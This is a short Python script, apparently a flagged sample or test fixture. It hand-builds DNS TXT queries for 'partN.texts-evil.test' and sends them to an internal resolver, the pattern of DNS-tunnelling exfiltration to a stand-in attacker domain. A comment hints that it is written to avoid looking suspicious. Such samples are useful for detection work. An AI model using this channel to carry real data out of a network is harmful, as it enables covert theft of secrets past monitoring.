# flagged: python3.11
import os, socket
# In words, so that no name looks odd.
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.connect(("10.96.0.10", 53))
one.settimeout(1)
for number in range(20):
    part = b"part%d" % number
    one.send(os.urandom(2) + bytes.fromhex("01000001000000000000") + bytes([len(part)]) + part + b"\x0atexts-evil\x04test\0\0\x10\0\1")
    one.recv(512)
